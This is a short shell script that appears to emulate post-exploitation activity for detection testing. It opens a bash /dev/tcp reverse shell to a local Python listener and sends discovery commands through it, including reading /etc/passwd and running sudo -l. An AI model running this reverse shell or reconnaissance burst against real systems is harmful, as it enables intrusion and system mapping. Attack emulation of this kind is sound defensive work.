# techniques: T1059.004 T1082 T1033 T1087.001 T1057 T1016 T1049
# Post-exploitation discovery burst typed into a reverse shell: the shell's stdio is a socket
# (bash /dev/tcp to a Python listener on 127.0.0.1:4448 that sends the commands): id, whoami,
# uname -a, hostname, /etc/passwd, ps aux, ip a, ss -tlnp, os-release, sudo -l, crontab listing.
unset LD_LIBRARY_PATH
PATH=/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin; export PATH

listen() { # PORT COMMANDS [CONNECTIONS]: accept, send the commands, drain until EOF
  rm -f "ready.$1"
  /usr/bin/python3 -I -S -c '
import socket, sys
p, cmd, n = int(sys.argv[1]), sys.argv[2], int(sys.argv[3])
l = socket.socket(); l.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
l.bind(("127.0.0.1", p)); l.listen(1); l.settimeout(8)
open("ready.%d" % p, "w").close()
for _ in range(n):
    c, _ = l.accept(); c.settimeout(4)
    c.sendall(cmd.encode() + b"\n")
    try:
        while c.recv(65536): pass
    except OSError: pass
    c.close()
' "$1" "$2" "${3:-1}" &
  lpid=$!
  i=0; while [ ! -e "ready.$1" ] && [ $i -lt 50 ]; do sleep 0.1; i=$((i+1)); done
}

listen 4448 'id; whoami; uname -a; hostname; cat /etc/passwd; ps aux; ip a 2>&1; ss -tlnp 2>&1; cat /etc/os-release; sudo -l 2>&1; ls -la /etc/cron* 2>&1; exit'
bash -c 'exec 3<>/dev/tcp/127.0.0.1/4448 && exec /bin/sh <&3 >&3 2>&3' 2>/dev/null
wait
rm -f ready.*
exit 0
